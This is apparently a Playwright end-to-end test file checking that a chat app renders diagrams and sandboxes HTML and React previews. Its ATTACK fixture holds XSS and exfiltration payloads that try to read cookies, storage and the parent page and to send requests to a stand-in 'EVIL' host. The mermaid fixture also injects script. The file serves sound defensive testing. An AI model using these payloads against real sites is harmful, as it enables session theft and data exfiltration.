"""Diagrams and previews: code of answers runs in a sandbox that reaches neither the page nor the network."""

import asyncio
import struct
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, expect

from tests.e2e.chat_page import ChatPage
from tests.e2e.showcase import one_turn
from tests.e2e.test_chat_accessibility import ALL, violations
from tests.sizes import PAGE

DIAGRAMS = """
```mermaid
flowchart LR
  A["<img src=x onerror='parent.hacked=1'>"] --> B
  click B "javascript:parent.hacked=1"
```

```mermaid
flowchart LR
  A[[[ -->
```
"""

PREVIEWS = """
```html
<h1>Tides</h1><button onclick="this.textContent = 'clicked'">Click</button>
```

```svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="5"/></svg>
```
"""

COMPONENTS = """
```tsx
import { useState } from "react";

interface Props { step: number }

const Counter = ({ step }: Props) => {
  const [count, setCount] = useState<number>(0);
  return <button onClick={() => setCount(count + step)}>Tides: {count}</button>;
};

export default function App() {
  return <Counter step={2} />;
}
```

```jsx
import { LineChart } from "recharts";
export default () => <LineChart />;
```

```jsx
const Broken = () => <p>;
```
"""

ATTACK = """
```html
<link rel="preconnect" href="EVIL"><link rel="stylesheet" href="EVIL/a.css"><img src="EVIL/a.png">
<style>@import "EVIL/b.css"; body { background: url("EVIL/b.png") }</style>
<form action="EVIL/form" target="_top"><input name="a"></form>
<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<p>Attack</p>
<script>
const tried = (attempt) => { try { return String(attempt()); } catch (error) { return error.name; } };
window.found = {
  cookie: tried(() => document.cookie),
  storage: tried(() => localStorage.length),
  parent: tried(() => parent.document.title),
  top: tried(() => { top.location = "EVIL/top"; }),
  popup: tried(() => open("EVIL/popup")),
  peers: tried(() => typeof RTCPeerConnection),
  worker: tried(() => new Worker("EVIL/worker.js")),
};
const done = Promise.allSettled([
  fetch("EVIL/fetch"), fetch("/api/conversations"), import("EVIL/module.js"),
  new Promise((resolve) => { new WebSocket("EVIL/ws".replace("http", "ws")).onerror = resolve; }),
]);
navigator.sendBeacon("EVIL/beacon");
document.querySelector("form").submit();
parent.postMessage({ id: 0, drawing: { svg: "<svg/>" } }, "*");
done.then((results) => {
  window.found.fetched = results.slice(0, 3).map(({ status }) => status).join();
  document.querySelector("p").textContent = "Attack over";
});
</script>
```

```html
<p>Leaving</p><script>location = "EVIL/leave";</script>
```

```html
<meta http-equiv="refresh" content="0;url=EVIL/refresh"><p>Leaving</p>
```
"""


@pytest_asyncio.fixture(loop_scope="session")
async def evil() -> AsyncIterator[tuple[str, list[bytes]]]:
    """Run a server of another origin. Yield its address, and the first bytes that each client sent.

    Chromium connects to the host of a frame's next document before it asks the policy, but sends nothing.
    """
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if data := await reader.read(200):
            heard.append(data)
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard


@PAGE
async def test_diagrams_are_images_and_invalid_ones_stay_code(chat: ChatPage) -> None:
    await chat.open_imported(one_turn("Diagrams", "Draw.", DIAGRAMS))
    answer = chat.answers.last

    await expect(answer.get_by_role("img", name="Diagram")).to_be_visible()
    assert await answer.locator("img").evaluate("image => image.decode().then(() => image.naturalWidth > 40)")
    await expect(answer.get_by_text("This diagram could not be drawn: Parse error on line 2.")).to_be_visible()
    await expect(answer.get_by_role("group", name="Code, mermaid")).to_have_count(1)
    await expect(answer.locator("pre").last).to_be_visible()
    await answer.get_by_role("button", name="Code", exact=True).click()
    await expect(answer.get_by_role("group", name="Code, mermaid")).to_have_count(2)
    await expect(answer.get_by_role("img", name="Diagram")).to_have_count(0)
    assert await chat.page.evaluate("window.hacked") is None


@PAGE
async def test_diagram_is_enlarged_moved_and_saved_as_a_picture(chat: ChatPage) -> None:
    await chat.open_imported(one_turn("A diagram", "Draw.", DIAGRAMS))
    answer = chat.answers.last
    await answer.get_by_role("button", name="Save the diagram").click()
    async with chat.page.expect_download() as saved:
        await chat.page.get_by_role("menuitem", name="Download as PNG").click()
    picture = (await (await saved.value).path()).read_bytes()
    width, height = struct.unpack(">II", picture[16:24])
    assert picture.startswith(b"\x89PNG")
    assert width > height > 40

    await answer.get_by_role("button", name="Enlarge").click()
    dialog = chat.page.get_by_role("dialog", name="Diagram")
    drawing = dialog.get_by_role("img", name="Diagram")
    await expect(dialog.get_by_text("100%")).to_be_visible()
    assert await violations(chat, ALL) == []
    before = await drawing.bounding_box()
    await dialog.get_by_role("button", name="Zoom in").click()
    await expect(dialog.get_by_text("125%")).to_be_visible()
    await drawing.hover()
    await chat.page.mouse.down()
    await chat.page.mouse.move(0, 300)
    await chat.page.mouse.up()
    after = await drawing.bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] == pytest.approx(before["width"] * 1.25, rel=0.01)
    assert after["x"] < before["x"] - 100
    await dialog.get_by_role("group").press("0")
    await expect(dialog.get_by_text("100%")).to_be_visible()
    await chat.page.keyboard.press("Escape")
    await expect(dialog).to_have_count(0)


@PAGE
async def test_react_component_is_previewed_on_a_click(chat: ChatPage) -> None:
    await chat.open_imported(one_turn("Components", "Count.", COMPONENTS))
    await chat.button("Preview").first.click()
    preview = chat.page.frame_locator("iframe[title='Preview of TSX']")
    await preview.get_by_role("button", name="Tides: 0").click()
    await expect(preview.get_by_role("button", name="Tides: 2")).to_be_visible()

    await chat.button("Preview").first.click()
    missing = chat.page.frame_locator("iframe[title='Preview of JSX']")
    await expect(missing.get_by_text("Previews cannot use the module recharts")).to_be_visible()
    await chat.button("Preview").click()
    await expect(chat.page.get_by_text("This component could not be shown: ")).to_be_visible()


@PAGE
async def test_html_and_svg_are_previewed_on_a_click(chat: ChatPage) -> None:
    await chat.open_imported(one_turn("Previews", "Draw.", PREVIEWS))
    assert await chat.answers.last.locator("iframe").count() == 0

    await chat.button("Preview").first.click()
    preview = chat.page.frame_locator("iframe[title='Preview of HTML']")
    await preview.get_by_role("button", name="Click").click()
    await expect(preview.get_by_role("button", name="clicked")).to_be_visible()
    frame = chat.page.locator("iframe[title='Preview of HTML']")
    # The frame is as tall as its content, and keeps its state when it is enlarged.
    await chat.page.wait_for_function("() => document.querySelector('iframe').offsetHeight < 200")
    await chat.button("Enlarge").click()
    await expect(preview.get_by_role("button", name="clicked")).to_be_visible()
    assert await frame.evaluate("frame => frame.offsetHeight") > 500
    await chat.button("Close").click()
    await chat.page.wait_for_function("() => document.querySelector('iframe').offsetHeight < 200")
    await expect(preview.get_by_role("button", name="clicked")).to_be_visible()

    await chat.button("Preview").click()
    await expect(chat.page.frame_locator("iframe[title='Preview of SVG']").locator("circle")).to_be_visible()
    await chat.button("Code").first.click()
    await expect(chat.page.locator("iframe")).to_have_count(1)


async def test_hostile_preview_reaches_neither_page_nor_network(
    browser: Browser, server: str, evil: tuple[str, list[bytes]]
) -> None:
    address, heard = evil
    # Blocked attempts are errors on the console, which the pages of `new_page` may not have.
    context = await browser.new_context(base_url=server)
    chat = ChatPage(await context.new_page())
    await chat.open_imported(one_turn("Attack", "Draw.", ATTACK.replace("EVIL", address)))
    await chat.page.evaluate("document.cookie = 'secret=1'; localStorage.setItem('secret', '1')")
    home = chat.page.url

    await chat.button("Preview").first.click()
    preview = chat.page.frame_locator("iframe").first
    await expect(preview.get_by_text("Attack over")).to_be_visible()
    found = await preview.locator("p").evaluate("() => window.found")
    assert found == {
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "parent": "SecurityError",
        "top": "SecurityError",
        "popup": "null",
        "peers": "undefined",
        "worker": "SecurityError",
        "fetched": "rejected,rejected,rejected",
    }

    # The browser shows an error page in place of the address that the frame wanted.
    for _ in range(2):
        async with chat.page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            await chat.button("Preview").first.click()
    assert chat.page.url == home
    assert len(context.pages) == 1
    assert heard == []
    await context.close()
